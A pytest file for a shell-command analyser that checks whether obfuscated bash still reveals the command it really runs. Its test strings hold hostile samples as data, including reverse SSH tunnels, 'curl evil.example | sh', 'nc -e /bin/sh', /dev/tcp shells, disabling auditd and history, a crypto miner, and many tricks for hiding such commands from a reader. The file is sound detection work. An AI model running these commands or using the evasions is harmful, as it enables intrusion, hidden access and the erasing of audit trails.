@pytest.mark.parametrize("loops, after", [
    (_FOR3.format(":"), _NC),
    (_WHILE2, _NC),
    (_FOR3.format("[[ 1 ]]"), f"printf '%s\\n' '{_NC}' | while read l; do eval \"$l\"; done"),
    ("for c in " + " ".join(f"'echo {i}'" for i in range(60)) + "; do $c; done", f"printf '%s\\n' '{_NC}' | while read l; do $l; done"),
])
def test_loops_that_multiply_leave_the_rest_read_and_say_so(loops, after):
    """Readings of loop bodies stop at half the command budget, and at byte budgets of their own
    (one for `for`, one for `while read`), so what follows is read; the cut is an UNREADABLE command
    (a loop after it of the same kind, or once half the commands are spent, is read as written)."""
    from vigiles.analysis.shell import UNREADABLE
    found = names(f"{loops}; {after}")
    assert "nc" in found and (UNREADABLE in found) is ("echo 59" not in loops)


def test_words_and_values_are_bounded():
    """`y=$y$y` doubles a value on every pass: it is cut at MAX_WORD, and so is a word."""
    from vigiles.analysis.shell import MAX_WORD
    cmds = reader.read("y=ab; for i in 0 1 2 3 4 5 6 7 8 9 a b c d e f; do for j in 1 2; do y=$y$y; done; done; echo \"$y$y\"")
    assert len(cmds[-1].args[0]) == MAX_WORD


def test_while_read_runs_no_record_read_cannot_finish():
    """At the end of input, read fails on a record without its delimiter: the body does not run."""
    assert "ssh" not in names("printf 'ssh -R 1:l:22 h' | while IFS= read -r -d '' c; do $c; done")


def test_loop_readings_share_one_budget():
    """Bodies that make no command (`[[ ]]`) escape the command budget: loops nested four deep
    over 16 lines would read the innermost body 65,536 times, and each reading counts."""
    from vigiles.analysis.shell import MAX_LOOP_READING
    lines = "\\n".join(str(i) for i in range(16))
    body = "[[ $a == 1 ]]; echo y;"
    for depth in range(4):
        body = f"while read v{depth}; do {body} done <<< $'{lines}';"
    readings = sum(c.name == "echo" for c in reader.read(body))
    assert 16 <= readings <= MAX_LOOP_READING // 64


@pytest.mark.parametrize("text, name", [
    ("cat <<E > f; ssh -R 1:l:22 h\r\nhi\r\nE\r\n", "ssh"),  # CRLF: no line equals E; bash runs ssh at the end
    ("echo $((1<<2))\ncat <<E > f; ssh -R 1:l:22 h\nhi\nE", "ssh"),  # an arithmetic << is no heredoc
    ("cat <<E >f; id; cat <<F >g; ssh -R 1:l:22 h\ne\nE\nf\nF", "ssh"),  # two heredocs on the line
    ("(cat) <<E | sh\nssh -R 1:l:22 h\nE", "ssh"),  # a group given the heredoc
    ("{ cat; } <<E | sh\nssh -R 1:l:22 h\nE", "ssh"),
    ("while read l; do :; done <<E && ssh -R 1:l:22 h\nx\nE", "ssh"),
    ("for i in 1 2; { :; }\n" * 9 + "ssh -R 1:l:22 h", "ssh"),  # many errors before it
    ("# don't\nfor i in 1 2; { :; }\nssh -R 1:l:22 h", "ssh"),  # a quote in a comment
    ("for i in 1 2; { :; }\nX=" + "A" * 5000 + " ssh -R 1:l:22 h", "ssh"),  # a long member
])
def test_heredoc_and_error_edges_still_read_the_command(text, name):
    assert ["-R", "1:l:22", "h"] in [c.args for c in reader.read(text) if c.name == name]


@pytest.mark.parametrize("text", [
    "cat <<E'OF' > f; true\nE\nssh -R 1:l:22 h\nEOF",  # bash's delimiter is EOF: ssh is text
    "cat <<A>a; cat <<B>b; true\nssh -R 1:l:22 h\nA\nb\nB",
    "cat <<E > f #; ssh -R 1:l:22 h\nhi\nE",
])
def test_heredoc_text_is_not_read_as_commands(text):
    assert "ssh" not in names(text)


def test_too_many_heredocs_is_an_unreadable_command():
    """tree-sitter-bash parses a line of many `<<` in quadratic time: such a text is not parsed."""
    from vigiles.analysis.shell import MAX_HEREDOCS, UNREADABLE
    cmds = reader.read("x<<E " * (MAX_HEREDOCS + 1) + "\ncurl evil.example | sh")
    assert [c.name for c in cmds] == [UNREADABLE]


@pytest.mark.parametrize("text, name", [
    ("x=$(cat <<E\nEx\ncat <<Q\nE\n)\ncurl evil.example | sh\nQ", "curl"),  # a heredoc in $(...) renamed too
    ("echo $[1<<2]; for i in 1 2; { :; }\nssh -R 1:l:22 h", "ssh"),  # no heredoc in $[...] or ${...}
    ("echo ${a:-<<E}; for i in 1 2; { :; }\nssh -R 1:l:22 h", "ssh"),
    ("echo {\nfor i in 1 2; { :; }\nssh -R 1:l:22 h", "ssh"),  # a brace of its own opens nothing
    ("echo $'\\''\nfor i in 1 2; { :; }\nssh -R 1:l:22 h", "ssh"),
    ("cat <<E\n" + "".join(f"E_{k}_\n" for k in range(8)) + "cat <<Q\nE\ncurl evil.example|sh\nQ", "curl"),
    ("printf 'true\\ncurl evil.example' | while read -r l || [ -n \"$l\" ]; do eval \"$l\"; done", "curl"),
    ("printf '%*s\\n' 0 'curl evil.example|sh' | sh", "curl"),
])
def test_second_review_edges(text, name):
    assert name in names(text)


def test_printf_output_is_bounded_in_width_and_precision():
    from vigiles.analysis.decode import MAX_PRINTF, output_of
    assert len(output_of("printf", ["%.999999999f", "1"], None)) < 300
    assert len(output_of("printf", ["%999999999s" * 1000], None)) == MAX_PRINTF
    assert output_of("printf", ["%(%F)T"], None) is None  # a time: not known here


@pytest.mark.parametrize("text", [
    "${PATH:0:1}usr${PATH:0:1}bin${PATH:0:1}ssh -R 1:l:22 h",
    "${SHELL:7:1}${SHELL:7:2} -R 1:l:22 h",
])
def test_characters_cut_from_the_assumed_environment(text):
    """`${PATH:0:1}` is `/` in every shell; PATH as such stays as written."""
    assert find(text, "ssh").args == ["-R", "1:l:22", "h"]
    assert find("echo $PATH ${PATH}", "echo").args == ["$PATH", "${PATH}"]


@pytest.mark.parametrize("text", [
    ". /dev/stdin <<< 'ssh -R 1:l:22 h'",
    "echo 'ssh -R 1:l:22 h' | source /proc/self/fd/0",
    "printf 'ssh -R 1:l:22 h' | bash /dev/stdin",
])
def test_a_shell_given_its_own_input_as_a_script_runs_it(text):
    cmd = find(text, "ssh")
    assert cmd.args == ["-R", "1:l:22", "h"] and cmd.via[-1] in (".", "source", "bash")


@pytest.mark.parametrize("text", [
    "perl -e 'system(\"ssh -R 1:l:22 u\\@h\")'",
    "php -r 'system(\"id\\nssh -R 1:l:22 u@h\");'",
    "ruby -e 'system(\"ssh -R 1:l:22 \\\"u@h\\\"\")'",
])
def test_escapes_in_other_languages_strings_given_to_a_shell(text):
    assert find(text, "ssh").args == ["-R", "1:l:22", "u@h"]


@pytest.mark.parametrize("text, seen", [
    ("env S=ssh sh -c '$S -R 1:l:22 h'", True),
    ("S=ssh sh -c '$S -R 1:l:22 h'", True),
    ("export S=ssh; bash -c '$S -R 1:l:22 h'", True),
    ("declare -x S=ssh; bash -c '$S -R 1:l:22 h'", True),
    ("S=ssh; echo '$S -R 1:l:22 h' | S=$S bash", True),
    ("S=ssh; bash -c '$S -R 1:l:22 h'", False),  # not exported: the child's $S is empty
    ("S=ssh true; bash -c '$S -R 1:l:22 h'", False),  # assigned for `true` alone
])
def test_a_child_shell_sees_the_exported_environment(text, seen):
    assert ("ssh" in names(text)) is seen


@pytest.mark.parametrize("text", [
    "printf '$S -R 1:l:22 h' > /tmp/r.sh; S=ssh bash /tmp/r.sh",
    "printf '$S -R 1:l:22 h' > /tmp/r.sh; chmod +x /tmp/r.sh; export S=ssh; /tmp/r.sh",
    "printf '$S -R 1:l:22 h' > /tmp/r.sh; S=ssh; . /tmp/r.sh",
    "printf 'S=ssh' > /tmp/e.sh; source /tmp/e.sh; $S -R 1:l:22 h",
    "export S=ssh; echo '$S -R 1:l:22 h' | at now + 1 minute",
    "S=ssh; trap '$S -R 1:l:22 h' EXIT",
])
def test_scripts_and_deferred_commands_see_their_variables(text):
    """A started script the exported ones, a sourced file and a trap this shell's own (and what a
    sourced file sets stays set)."""
    assert find(text, "ssh", Session()).args == ["-R", "1:l:22", "h"]


@pytest.mark.parametrize("text", [
    "env S=ssh bash -c 'sh -c '\"'\"'$S -R 1:l:22 h'\"'\"''",
    "f(){ sh -c '$S -R 1:l:22 h'; }; S=ssh f",
    "S=ssh eval \"sh -c '\\$S -R 1:l:22 h'\"",
    "f(){ export S=ssh; }; f; sh -c '$S -R 1:l:22 h'",
    "echo 'ssh -R $1 h' | bash /dev/stdin 1:l:22",
])
def test_the_exported_environment_reaches_what_children_start(text):
    """Inherited variables are exported in the child; a function's or eval's prefix assignments
    reach what they start; what a function exports stays exported; `bash /dev/stdin ARGS` sets $1."""
    assert find(text, "ssh").args == ["-R", "1:l:22", "h"]


def test_what_a_child_exports_stays_in_the_child():
    assert "ssh" not in names("S=ssh; bash -c 'export S'; sh -c '$S -R 1:l:22 h'")


def test_double_quotes_and_parameter_forms_as_bash_reads_them():
    assert find('echo "a\\$b" "x\\"y" "p\\\\q" "m\\nn" "t\\`u"', "echo").args == ["a$b", 'x"y', "p\\q", "m\\nn", "t`u"]
    assert find('eval "\\$(echo nc) -e /bin/sh h 1"', "nc").args[0] == "-e"
    assert find("a=abcdef; echo ${a::1} ${a:1:2} ${a: -2} \"[${a::}]\" ${#a} ${#PATH}", "echo").args == [
        "a", "bc", "ef", "[]", "6", "60"]
    assert find("${PATH::1}usr${PATH::1}bin${PATH::1}nc -e /bin/sh h 1", "nc").path == "/usr/bin/nc"


@pytest.mark.parametrize("text", [
    "perl -e 'system(\"\\x6ec -e /bin/sh h 1\")'",
    "perl -e 'system(\"\\156c -e /bin/sh h 1\")'",
    "node -e 'require(\"child_process\").execSync(\"\\u006ec -e /bin/sh h 1\")'",
])
def test_character_escapes_in_other_languages_strings(text):
    assert find(text, "nc").args == ["-e", "/bin/sh", "h", "1"]


def test_what_builtins_and_prompts_run_or_assign_is_shown():
    """`read` and `printf -v` assignments appear as assignments; PROMPT_COMMAND is run, and a
    prompt's substitutions are."""
    assert find("printf -v HISTFILE %s /dev/null", "assign").args == ["HISTFILE=/dev/null"]
    assert find("read -r HISTFILE <<< /dev/null", "assign").args == ["HISTFILE=/dev/null"]
    assert find("export PROMPT_COMMAND='history -c'", "history").via == ("PROMPT_COMMAND",)
    assert find("PS1='$(curl -s http://x/a | sh)\\$ '", "sh").via == ("PS1",)


@pytest.mark.parametrize("text", [
    "git config --global alias.sync '!ssh -fNR 1:l:22 h; git pull' && git sync",
    "git config core.sshCommand 'ssh -R 1:l:22 h'",
])
def test_a_command_stored_in_git_config_is_read(text):
    assert find(text, "ssh").args[-2:] == ["1:l:22", "h"]
    assert "ssh" not in names("git config --global alias.st status && git config user.name 'ssh -R x'")


def test_a_release_download_runs_as_its_tool():
    """Projects name their binaries tool_version_system_arch: renamed or not, it is the tool."""
    assert find("./chisel_1.9.1_linux_amd64 client 198.51.100.7:8000 R:socks", "chisel").args[0] == "client"
    assert find("mv frpc-linux-arm64 .cache && ./.cache -c f.ini", "frpc", Session()).args == ["-c", "f.ini"]
    assert names("/lib64/ld-linux-x86-64.so.2 --version") == ["ld-linux-x86-64.so.2"]


def test_an_image_runs_the_program_it_is_named_after():
    """With no entrypoint given, `docker run IMAGE ARGS` runs the image's own program, which a
    single-tool image is named after; the words after the image are read as a command too."""
    cmds = reader.read("docker run -d --net=host cloudflare/cloudflared:latest tunnel --url http://localhost:8888")
    assert [(c.name, c.args[0]) for c in cmds[1:]] == [("cloudflared", "tunnel"), ("tunnel", "--url")]
    assert find("podman run -d docker.io/xmrig/xmrig@sha256:ab -o pool.example.net:3333", "xmrig").args[0] == "-o"
    assert "image" not in " ".join(v for c in reader.read("docker run --entrypoint sh alpine -c id") for v in c.via)


def test_a_quoted_array_expansion_gives_each_element_as_a_word():
    assert find('t=(-R "1:l:22" h); ssh "${t[@]}"', "ssh").args == ["-R", "1:l:22", "h"]
    assert find('t=(a "b c"); printf "<%s>" "${t[@]}"', "printf").args == ["<%s>", "a", "b c"]
    assert find('printf "%s" "${unset[@]}"', "printf").args == ["%s", "${unset[@]}"]


def test_an_alias_holding_shell_text_is_read_as_shell():
    """bash puts an alias's text in place of its name and reads the line again."""
    session = Session()
    reader.read("alias ll='ls -la; sudo systemctl stop auditd >/dev/null 2>&1'", session)
    cmds = reader.read("ll 'src dir/'", session)
    assert [(c.name, c.args, c.via) for c in cmds if c.name in ("ls", "systemctl")] == [
        ("ls", ["-la"], ("alias ll",)), ("systemctl", ["stop", "auditd", "src dir/"], ("alias ll", "sudo"))]
    reader.read("alias g='git status'", session)
    assert [(c.name, c.args) for c in reader.read("g -s", session)][0] == ("git", ["status", "-s"])


def test_auditctl_rules_file_lines_are_auditctl_commands():
    session = Session()
    reader.read("printf -- '-D\\n-e 0\\n' > /tmp/r.rules", session)
    cmds = reader.read("sudo auditctl -R /tmp/r.rules", session)
    assert [(c.args, c.via[-1]) for c in cmds if c.name == "auditctl"][1:] == [
        (["-D"], "rules /tmp/r.rules"), (["-e", "0"], "rules /tmp/r.rules")]


def test_a_script_run_with_arguments_has_them_as_its_argv():
    session = Session()
    reader.read("printf '#!/usr/bin/env python3\\nimport socket\\n' > /tmp/s.py", session)
    cmds = reader.read("/tmp/s.py a.safetensors", session)
    assert [(c.args, c.via) for c in cmds if c.code is not None] == [
        (["/tmp/s.py", "a.safetensors"], ("s.py", "script /tmp/s.py"))]


@pytest.mark.parametrize("text, sent", [
    ("scp -i key.pem -P 22 a.py b.py u@h:/srv/", {("h", "a.py"): "a.py", ("h", "b.py"): "b.py"}),
    ("scp model.bin scp://u@H.example:2222/opt/m.bin", {("h.example", "model.bin"): "model.bin",
                                                         ("h.example", "m.bin"): "model.bin"}),
    ("rsync -avz -e 'ssh -p 2222' --exclude cache ./run/ backup::mod", {("backup", "run"): "./run/",
                                                                     ("backup", "mod"): "./run/"}),
    ("scp ./a:b /tmp/x", {}),           # both local: a colon after a slash is part of a path
    ("scp u@h:/etc/hosts .", {}),       # from the host, not to it
    ("scp -F cfg -- -odd h:", {("h", "-odd"): "-odd"}),
])
def test_copies_to_a_host_are_kept_by_the_names_the_host_knows_them_by(text, sent):
    session = Session()
    ShellReader().read(text, session)
    assert {key: source for key, (source, _sender) in session.sent.items()} == sent


@pytest.mark.parametrize("args, parts", [
    (["czf", "-", "app", "main.py"], ("czf", "-", ["app", "main.py"])),  # old style: f takes the next word
    (["-C/opt", "-xzf", "-"], ("xz", "-", [])),                           # -Cdir holds its value
    (["-cf-", "a", "b"], ("c", "-", ["a", "b"])),
    (["--extract", "--file=-", "-C", "/o"], ("", "-", [])),
    (["--create", "--file", "x.tar", "--transform", "s/a/b/", "d"], ("", "x.tar", ["d"])),
    (["xzf"], ("xzf", None, [])),                                         # no archive word: its input
    (["-cf", "out.tar", "--", "-weird"], ("c", "out.tar", ["-weird"])),  # -- ends the options
    (["-I", "zstd", "-cf", "-", "app"], ("c", "-", ["app"])),
    (["--strip-components", "1", "-xf", "-"], ("x", "-", [])),
    ([], ("", None, [])),
])
def test_tar_words_are_read_as_gnu_tar_reads_them(args, parts):
    from vigiles.analysis.shell import _tar_parts
    assert _tar_parts(args) == parts


@pytest.mark.parametrize("text, expected", [
    ("[ -f /.dockerenv ] && echo d", [("test", ["-f", "/.dockerenv"]), ("echo", ["d"])]),
    ("[[ -e /run/.containerenv || $x == 'a b' ]]", [("test", ["-e", "/run/.containerenv", "||", "$x", "==", "a b"])]),
    ("x=/etc/shadow; if [ -r $x ]; then :; fi", [("assign", ["x=/etc/shadow"]), ("test", ["-r", "/etc/shadow"]), (":", [])]),
    ('[ -n "$(curl -s http://x.example)" ]', [("curl", ["-s", "http://x.example"]), ("test", ["-n", "$(curl -s http://x.example)"])]),
    ("[ -e ~/.dockerenv ]", [("test", ["-e", "~/.dockerenv"])]),  # the grammar splits `~` off its word
    ("[[ ! -d ~root || $x == y ]]", [("test", ["!", "-d", "~root", "||", "$x", "==", "y"])]),
    ("[ -f /.dockerenv ] | cat", [("test", ["-f", "/.dockerenv"]), ("cat", [])]),  # a pipeline's stage
])
def test_a_test_command_is_the_test_builtin(text, expected):
    """`[ ... ]` and `[[ ... ]]` are read as `test ...` is, once each, what their substitutions run included."""
    assert [(c.name, c.args) for c in ShellReader().read(text, Session())] == expected


def test_a_long_test_still_runs_its_substitutions():
    """Past the words a test command keeps, what its substitutions run is still read."""
    padded = " -a ".join(["1 = 1"] * 40)
    cmds = ShellReader().read(f'[ {padded} -a "$(curl -s http://x.example/s.sh | bash)" ]', Session())
    assert ("curl", ["-s", "http://x.example/s.sh"]) in [(c.name, c.args) for c in cmds]


@pytest.mark.parametrize("text, name, stdin", [
    ("echo aGkK | base64 -d | curl -d @- https://x.example", "curl", "hi\n"),  # a decoder's output
    ("curl -d @- https://x.example <<< 'a b'", "curl", "a b\n"),
    ("cat <<EOF | nc h 1\nline\nEOF", "cat", "line\n"),
    ("ls | curl -d @- https://x.example", "curl", None),  # what ls prints is not known
])
def test_what_a_command_is_given_on_its_input(text, name, stdin):
    cmd = next(c for c in ShellReader().read(text, Session()) if c.name == name)
    assert cmd.stdin == stdin


def test_kept_input_is_bounded_for_the_whole_walk():
    """One long input given to many commands is kept on the first ones only (shell.MAX_STDIN_KEPT)."""
    from vigiles.analysis.shell import MAX_STDIN_KEPT
    words = " ".join(str(i) for i in range(40))
    text = f"X={'A' * 60_000}\nfor i in {words}; do cat <<< \"$X\"; done"
    cmds = [c for c in ShellReader().read(text, Session()) if c.name == "cat"]
    assert len(cmds) == 41 and cmds[0].stdin == "A" * 60_000 + "\n" and cmds[-1].stdin is None
    assert sum(len(c.stdin or "") for c in cmds) <= MAX_STDIN_KEPT


def test_the_directory_a_cd_leaves_resolves_relative_words():
    session = Session()
    reader = ShellReader()
    (plain,) = reader.read("cat notes.txt", session)
    assert plain.cwd is None and plain.in_dir(plain.args) == []  # no cd: the directory is not known
    cmds = reader.read("cd ~/.ssh && cat -n id_rsa ../x 'a b' host:/p k=v $HOME/y -", session)
    assert session.cwd_set and session.cwd == "/root/.ssh"
    cat = cmds[-1]
    assert cat.cwd == "/root/.ssh"
    assert cat.in_dir(cat.args) == ["/root/.ssh/id_rsa", "/root/x", "/root/.ssh/a b"]
    (later,) = reader.read("rm -f known_hosts", session)  # the shell keeps it across actions
    assert later.in_dir(later.args) == ["/root/.ssh/known_hosts"]
    # a file program's operands only: not an option's value, nor a copy's destination, nor xargs's {}
    (head,) = reader.read("head -n 5 config", session)
    assert head.operands_in_dir() == ["/root/.ssh/config"]
    (cp,) = reader.read("cp id_rsa backup/", session)
    assert cp.operands_in_dir() == ["/root/.ssh/id_rsa"]
    (grep,) = reader.read("grep -r token src", session)
    assert grep.operands_in_dir() == []
    reader.read("cd -", session)
    assert not session.cwd_set
    reader.read("pushd /var/log", session)
    assert session.cwd == "/var/log"
    reader.read("cd", session)
    assert session.cwd == "/root"


def _shape(node) -> list:
    """Every node below the root: its type, span and whether it is an error."""
    out, stack = [], list(node.children)
    while stack:
        child = stack.pop()
        out.append((child.type, child.start_byte, child.end_byte, child.is_error, child.is_missing))
        stack.extend(child.children)
    return out


@pytest.mark.parametrize("text", [
    "find . -type f | sed 's/x/y/' | sort -u",
    "x && ps aux | grep -v grep | awk '{print $2}'",
    "cat <<EOF | sh | tee log\necho hi\nEOF",
    "a 2>&1 | b | c > f &",
    "a |\n b |\n c",                       # one pipeline over three lines
    "cat f \\\n | grep x \\\n | sort",
])
def test_parsed_with_a_newline_gives_the_same_tree(text):
    from vigiles.analysis.shell import _parse
    parser = ShellReader()._parser
    data = text.encode()
    assert not _parse(parser, data).root_node.has_error
    assert _shape(_parse(parser, data).root_node) == _shape(parser.parse(data).root_node)


@pytest.mark.parametrize("text", ["find . -name '*.txt", "find -inum 1 -exec rm {} \\", "cat f.html | grep -o \\"])
def test_a_text_with_an_error_is_parsed_as_given(text):
    from vigiles.analysis.shell import _parse
    parser = ShellReader()._parser
    data = text.encode()
    tree = _parse(parser, data)
    assert tree.root_node.has_error
    assert tree.root_node.end_byte == len(data)
    assert _shape(tree.root_node) == _shape(parser.parse(data).root_node)


def test_the_run_s_shell_keeps_socket_descriptors():
    reader, session = ShellReader(), Session()
    reader.read("exec 3<>/dev/tcp/203.0.113.5/4444", session)
    reader.read("exec 5>/dev/udp/198.51.100.2/53 6>/tmp/log", session)
    assert session.sockets == {"3": "/dev/tcp/203.0.113.5/4444", "5": "/dev/udp/198.51.100.2/53"}
    (sh,) = reader.read("sh <&3 >&3", session)
    assert sh.redirects == ["<&3", "<&3=/dev/tcp/203.0.113.5/4444", ">&3", ">&3=/dev/tcp/203.0.113.5/4444"]
    assert [e.host for e in sh.endpoints] == ["203.0.113.5", "203.0.113.5"]
    reader.read("exec 3>&- 5<&-", session)
    assert session.sockets == {}
    (sh,) = reader.read("sh <&3", session)
    assert sh.redirects == ["<&3"]


def test_a_subshell_s_exec_keeps_nothing_for_the_run():
    reader, session = ShellReader(), Session()
    reader.read("bash -c 'exec 3<>/dev/tcp/203.0.113.5/4444'", session)
    reader.read("exec python3 -c 'print(1)' 3<>/dev/tcp/203.0.113.5/4444", session)  # replaces the shell
    assert session.sockets == {}


def test_a_zero_glued_to_an_input_redirection_is_its_descriptor():
    # tree-sitter-bash parses `sh 0<&3` as sh's argument 0 and `<&3`; `seq 0 <f` keeps its 0
    reader = ShellReader()
    assert [(c.name, c.args) for c in reader.read("sh 0<&3", Session())] == [("sh", [])]
    assert [(c.name, c.args) for c in reader.read("seq 0 <f", Session())] == [("seq", ["0"])]
    assert [(c.name, c.args) for c in reader.read("echo 0&>log", Session())] == [("echo", ["0"])]   # no fd before &>
    (exec_,) = reader.read("exec 2>&1 0<&3", Session())      # the grammar gives this 0 to the 2>&1 before it
    assert exec_.args == [] and exec_.redirects == ["2>&1", "<&3"]


def test_a_background_job_leaves_the_run_s_shell_as_it_was():
    reader, session = ShellReader(), Session()
    reader.read("cd /srv &", session)
    reader.read("( exec 3<>/dev/tcp/203.0.113.5/4444 ) ; exec 4<>/dev/tcp/203.0.113.5/80 &", session)
    assert not session.cwd_set and session.sockets == {}
